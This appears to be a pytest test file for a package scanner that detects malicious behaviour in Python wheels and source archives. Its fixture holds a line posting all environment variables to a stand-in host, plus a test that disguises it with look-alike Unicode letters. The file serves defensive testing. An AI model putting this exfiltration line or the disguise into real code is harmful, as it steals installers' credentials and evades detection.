from collections.abc import Mapping
from pathlib import Path

import pytest

from package_gate.core.artifact import UnpackedPackage
from package_gate.core.finding import Finding, Kind, Location, Severity
from package_gate.core.policy import Limits
from package_gate.sandbox.pool import ScannerPool
from package_gate.scanners.behaviour import candidates
from package_gate.scanners.behaviour.scanner import BehaviourScanner
from package_gate.scanners.registry import worker_spec
from tests.scanners.packages import package, package_of

SENDS = "import os\nimport requests\nrequests.post('https://a.example', json=dict(os.environ))\n"


@pytest.fixture(scope="module")
def behaviour() -> BehaviourScanner:
    return BehaviourScanner(Limits())


def scan(
    behaviour: BehaviourScanner, folder: Path, files: Mapping[str, str | bytes]
) -> list[Finding]:
    return list(behaviour.scan(package(folder, files)))


def test_a_finding_says_what_and_where_and_that_it_runs(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": SENDS})

    assert found == Finding(
        scanner="behaviour",
        rule="sends-secrets",
        kind=Kind.MALWARE,
        severity=Severity.HIGH,
        message="Credentials or personal files are sent away: "
        "requests.post('https://a.example', json=dict(os.environ)). "
        "This runs by itself, on installation, on import or when Python starts.",
        recommendation="Read these places before anybody installs it.",
        artifact="sample-1.0-py3-none-any.whl",
        locations=(Location("sample/__init__.py", 3),),
    )


def test_one_rule_in_several_files_is_one_finding(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    (found,) = scan(behaviour, tmp_path, {f"sample/{name}.py": SENDS for name in "abc"})

    assert found.count == 3
    assert [place.path for place in found.locations] == [f"sample/{name}.py" for name in "abc"]


def test_what_nothing_runs_is_not_reported(behaviour: BehaviourScanner, tmp_path: Path) -> None:
    target = package(tmp_path, {"docs/conf.py": SENDS}, filename="sample-1.0.tar.gz")

    assert list(behaviour.scan(target)) == []


def test_letters_of_other_alphabets_hide_no_word(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    script = {letter: chr(0x1D4EA + ord(letter) - ord("a")) for letter in "environpst"}
    hidden = SENDS
    for name in (".environ", ".post"):
        hidden = hidden.replace(name, "".join(script.get(letter, letter) for letter in name))
    assert not hidden.isascii()

    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": hidden})

    assert found.rule == "sends-secrets"


def test_a_file_that_is_too_large_is_a_high_finding(
    behaviour: BehaviourScanner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(candidates, "MAX_FILE_BYTES", 1000)

    (found,) = scan(behaviour, tmp_path, {"sample/a.py": "#" * 1001, "sample/b.bin": "#" * 1001})

    assert (found.rule, found.severity) == ("file-too-large", Severity.HIGH)
    assert found.locations == (Location("sample/a.py"),)


def test_a_file_that_several_wheels_have_is_reported_for_each(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    names = [f"sample-1.0-{tag}.whl" for tag in ("cp311", "cp312")]
    wheels = [
        package(tmp_path / name, {"sample/__init__.py": SENDS}, filename=name) for name in names
    ]

    assert [each.artifact for each in behaviour.scan(package_of(*wheels))] == names


def test_in_its_worker_it_finds_the_same(behaviour: BehaviourScanner, tmp_path: Path) -> None:
    def target(folder: Path) -> UnpackedPackage:
        return package(folder, {"sample/__init__.py": SENDS, "yara.py": "raise SystemExit"})

    with ScannerPool([worker_spec("behaviour")], Limits(), tmp_path) as pool:
        found = pool.scan("behaviour", target(tmp_path / "worker"))

    assert found == list(behaviour.scan(target(tmp_path / "here")))
